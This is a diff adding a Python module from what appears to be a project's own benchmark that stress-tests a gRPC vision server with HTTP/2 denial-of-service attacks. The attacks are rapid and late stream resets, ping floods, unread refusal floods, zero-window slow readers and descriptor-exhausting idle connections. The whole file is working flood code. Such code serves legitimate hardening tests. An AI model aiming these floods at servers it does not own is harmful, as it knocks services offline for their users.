@@ -1,0 +1,207 @@
+"""Attacks on connections: resets, pings, idle ones, and readers that do not read."""
+
+from __future__ import annotations
+
+import asyncio
+import contextlib
+import os
+import socket
+import struct
+import threading
+import time
+from collections.abc import Callable, Iterator, Mapping
+from functools import partial
+
+from bench.attacks import http2
+from bench.attacks.attack import Attack, Outcome, Victim
+from bench.attacks.http2 import RawConnection
+from kestrel_client.v1 import vision_service_pb2 as wire
+
+COMPLETE_QUERY = "/kestrel.v1.VisionService/CompleteQuery"
+QUERY = "/kestrel.v1.VisionService/Query"
+_BATCH = 100
+_LATE_S = 0.01
+_LAST_STREAM = 2**31 - 1
+_SOCKET_TIMEOUT_S = 5.0
+NUM_IDLE, NUM_DESCRIPTORS = 400, 256
+NUM_SLOW_CONNECTIONS, NUM_SLOW_CALLS = 8, 16
+MIN_PING_CONNECTIONS = 10
+
+
+def _resets(headers: bytes) -> Iterator[bytes]:
+    """Calls that are cancelled in the same breath, a batch at a time."""
+    for streams in _streams():
+        yield b"".join(_head(headers, stream) + _reset(stream) for stream in streams)
+
+
+def _late_resets(headers: bytes) -> Iterator[bytes]:
+    """Calls that are cancelled after the server has begun to handle them."""
+    for streams in _streams():
+        yield b"".join(_head(headers, stream) for stream in streams)
+        time.sleep(_LATE_S)
+        yield b"".join(map(_reset, streams))
+
+
+def _refused(headers: bytes) -> Iterator[bytes]:
+    """Calls that bring no token and no message."""
+    for streams in _streams():
+        yield b"".join(_head(headers, stream, http2.END_STREAM) for stream in streams)
+
+
+def _streams() -> Iterator[range]:
+    """The numbers of a client's streams, a batch at a time."""
+    return (range(first, first + 2 * _BATCH, 2) for first in range(1, _LAST_STREAM - 2 * _BATCH, 2 * _BATCH))
+
+
+def _head(headers: bytes, stream: int, flags: int = 0) -> bytes:
+    return http2.frame(http2.HEADERS, http2.END_HEADERS | flags, stream, headers)
+
+
+def _reset(stream: int) -> bytes:
+    return http2.frame(http2.RST_STREAM, 0, stream, struct.pack(">I", http2.CANCEL))
+
+
+def _pings(headers: bytes) -> Iterator[bytes]:
+    batch = b"".join(http2.frame(http2.PING, 0, 0, os.urandom(8)) for _ in range(_BATCH))
+    while True:
+        yield batch
+
+
+def _flood(
+    batches: Callable[[bytes], Iterator[bytes]],
+    victim: Victim,
+    seconds: float,
+    headers: bytes,
+    *,
+    is_reading: bool = True,
+) -> Outcome:
+    """Writes as fast as the socket takes it, on a new connection wherever the server has closed the last."""
+    end, outcome = time.monotonic() + seconds, Outcome()
+    while time.monotonic() < end:
+        try:
+            with socket.create_connection((victim.host, victim.port), _SOCKET_TIMEOUT_S) as connection:
+                outcome["connections"] += 1
+                if is_reading:
+                    threading.Thread(target=_discard, args=(connection,), daemon=True).start()
+                connection.sendall(http2.PREFACE + http2.settings())
+                for batch in batches(headers):
+                    left_s = end - time.monotonic()
+                    if left_s <= 0.0:
+                        break
+                    connection.settimeout(left_s)
+                    connection.sendall(batch)
+                    outcome["batches"] += 1
+        except TimeoutError:
+            break
+        except OSError:
+            # The server has had enough of this connection.
+            time.sleep(0.01)
+    return outcome
+
+
+def _discard(connection: socket.socket) -> None:
+    """Read until the connection is closed, here or there."""
+    with contextlib.suppress(OSError):
+        while connection.recv(2**18):
+            pass
+        # Of a connection that only the server has closed, writing would go on until its kernel says so.
+        connection.shutdown(socket.SHUT_RDWR)
+
+
+def _call_headers() -> bytes:
+    return http2.call_headers(COMPLETE_QUERY)
+
+
+def _idle(victim: Victim, seconds: float, prepared: None) -> Outcome:
+    """Connections that greet and then stand still."""
+    connections: list[socket.socket] = []
+    outcome = Outcome()
+    end = time.monotonic() + seconds
+    for _ in range(NUM_IDLE):
+        try:
+            connection = socket.create_connection((victim.host, victim.port), _SOCKET_TIMEOUT_S)
+            connections.append(connection)
+            connection.sendall(http2.PREFACE + http2.settings())
+            outcome["connected"] += 1
+        except OSError:
+            outcome["refused"] += 1
+    time.sleep(max(0.0, end - time.monotonic()))
+    for connection in connections:
+        connection.close()
+    return outcome
+
+
+def _slow_readers(victim: Victim, seconds: float, prepared: None) -> Outcome:
+    return asyncio.run(_read_nothing(victim, seconds))
+
+
+async def _read_nothing(victim: Victim, seconds: float) -> Outcome:
+    """Long answers, of which the server may send nothing at all."""
+    outcome = Outcome()
+    headers = http2.call_headers(QUERY, victim.token)
+    sampling = {"max_tokens": 300, "temperature": 50.0, "top_p": 1.0}
+    message = http2.grpc_message(wire.QueryRequest(question="hello", sampling=sampling).SerializeToString())
+    end = time.monotonic() + seconds
+
+    async def connect() -> None:
+        async with RawConnection.open(victim.host, victim.port, initial_window_size=0) as connection:
+            streams = [await connection.start(headers) for _ in range(NUM_SLOW_CALLS)]
+            await asyncio.gather(*(connection.send(stream, message, is_last=True) for stream in streams))
+            await asyncio.sleep(max(0.0, end - time.monotonic()))
+            for stream in streams:
+                outcome[await connection.status(stream, 0.01)] += 1
+
+    await asyncio.gather(*(connect() for _ in range(NUM_SLOW_CONNECTIONS)))
+    return Outcome(http2.code_names(outcome))
+
+
+def _check_pings(outcome: Mapping[str, int], log: str) -> list[str]:
+    """A server that punishes floods closes the connection, and the attacker needs many."""
+    if outcome.get("connections", 0) >= MIN_PING_CONNECTIONS:
+        return []
+    return [f"{_BATCH * outcome.get('batches', 0):,} pings on {outcome.get('connections', 0)} connections"]
+
+
+ATTACKS = (
+    Attack(
+        "rapid-reset",
+        "HTTP/2 rapid reset, two processes, no token",
+        partial(_flood, _resets),
+        _call_headers,
+        num_processes=2,
+    ),
+    Attack(
+        "late-reset",
+        "the same, reset after 10 ms",
+        partial(_flood, _late_resets),
+        _call_headers,
+        num_processes=2,
+    ),
+    Attack(
+        "ping-flood",
+        "ping flood, two processes, no token",
+        partial(_flood, _pings),
+        _call_headers,
+        num_processes=2,
+        check=_check_pings,
+    ),
+    Attack(
+        "unread-refusals",
+        "calls without token whose refusals are never read, two processes",
+        partial(_flood, _refused, is_reading=False),
+        _call_headers,
+        num_processes=2,
+    ),
+    Attack(
+        "slow-readers",
+        f"{NUM_SLOW_CONNECTIONS * NUM_SLOW_CALLS} streamed answers that are never read, one token",
+        _slow_readers,
+    ),
+    Attack(
+        "idle-connections",
+        f"{NUM_IDLE} idle connections, server with {NUM_DESCRIPTORS} descriptors; others connect anew",
+        _idle,
+        num_descriptors=NUM_DESCRIPTORS,
+        needs_new_connections=True,
+    ),
+)
